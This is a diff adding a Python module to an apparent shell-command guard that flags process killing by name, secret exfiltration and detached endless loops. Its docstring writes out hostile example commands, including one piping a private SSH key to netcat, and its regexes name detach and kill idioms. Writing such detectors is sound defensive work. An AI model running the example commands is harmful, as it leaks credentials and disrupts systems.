@@ -1,0 +1,75 @@
+"""What flows between the commands of a line beyond text and names, and the signals it raises: process IDs found by
+name (`pgrep node | xargs kill`, `kill $(lsof -ti :3000)`), secrets read (`cat ~/.ssh/id_rsa | nc host 1`), and
+endless loops detached from the session (`nohup sh -c 'while true; do ...; done' &`)."""
+
+from __future__ import annotations
+
+import re
+from typing import Protocol
+
+from dun.guard import secrets
+from dun.guard.effects import Facts
+from dun.guard.expand import Ctx, Env, Val, literal_words
+
+PID_FINDERS = frozenset({"pgrep", "pidof", "lsof", "fuser", "ps", "ss", "netstat", "pstree"})
+_LOOP = re.compile(r"\bwhile\s+(?:true|:|\[\s*1\s*\]|\(\(\s*1\s*\)\))\s*;?\s*do\b|\buntil\s+false\s*;?\s*do\b")
+_DETACH = re.compile(r"(?:^|[\s;&|(])(?:nohup|setsid|disown|daemonize|start-stop-daemon)\b|\bscreen\s+-\w*d"
+                     r"|\btmux\s+new(?:-session)?\b[^;&|]*\s-d|&\s*(?:disown\b[^;&|]*)?$")
+
+
+class Flow(Protocol):
+    pids: bool
+    secret: str | None
+    text: str | None
+
+
+def finds_pids(body: str) -> bool:
+    """A `$(...)` body that prints process IDs found by name or port: $(pgrep node), $(lsof -ti :3000 | ...)."""
+    first = body.lstrip().split(None, 1)[:1]
+    words = literal_words(body)
+    return bool(first and first[0] in PID_FINDERS) or bool(words[:1] and words[0] in PID_FINDERS)
+
+
+_FINDS_BY_NAME = re.compile(r"process_iter|pgrep|pidof|pkill|killall|\bps\s+(?:aux|-e)|find-process|ps-list")
+_KILLS = re.compile(r"\.kill\s*\(|\.terminate\s*\(|\bos\.kill\b|process\.kill|Process\.kill|\bkill\s*\(")
+
+
+def code_kills_by_name(code: str) -> bool:
+    """Interpreter code that finds processes by name and kills them (psutil.process_iter() ... p.kill())."""
+    return bool(_FINDS_BY_NAME.search(code)) and bool(_KILLS.search(code))
+
+
+def detached_loop(src: str) -> bool:
+    return bool(_LOOP.search(src)) and bool(_DETACH.search(src))
+
+
+def stream_marks(prog: str, args: list[Val], feed: Flow | None, stdin_secret: str | None, ctx: Ctx,
+                 env: Env) -> tuple[bool, str | None]:
+    """(whether process IDs found by name flow out of this stage, the secret that flows out of it)."""
+    pids = prog in PID_FINDERS or bool(feed and feed.pids and prog != "kill")
+    if prog in secrets.SENDERS:
+        return pids, None
+    operands = [a for a in args if not a.text.startswith("-")]
+    if prog in secrets.ENV_DUMPS and (not operands and all(a.text in ("-p", "-x") for a in args)):
+        return pids, "the environment"
+    for v in operands:
+        if name := secrets.val_secret(v, ctx, env):
+            return pids, name
+    return pids, stdin_secret or (feed.secret if feed else None)
+
+
+def command_signals(facts: Facts, argv: list[Val], feed: Flow | None, ctx: Ctx, env: Env, raw_words: list[str],
+                    names: tuple[set[str], set[str]]) -> None:
+    """Raise kill-by-name and exfiltrate on the command these facts describe. `names`: the variables holding
+    process IDs found by name, and those holding secrets."""
+    prog, args = facts.program, argv[1:]
+    pid_vars, secret_vars = names
+    if prog == "kill" and ((feed is not None and feed.pids) or any(
+            finds_pids(body) for a in args for body in a.subs) or any(
+            re.search(rf"\$\{{?{re.escape(name)}\b", a.text) for a in args for name in pid_vars)):
+        facts.signals.add("kill-by-name")
+    stdin = (feed.secret, feed.text) if feed is not None else (None, None)
+    secret = secrets.exfiltration(prog, args, raw_words, stdin, ctx, env, secret_vars)
+    if secret:
+        facts.signals.add("exfiltrate")
+        facts.notes["exfiltrate"] = f"secret: {secret}"
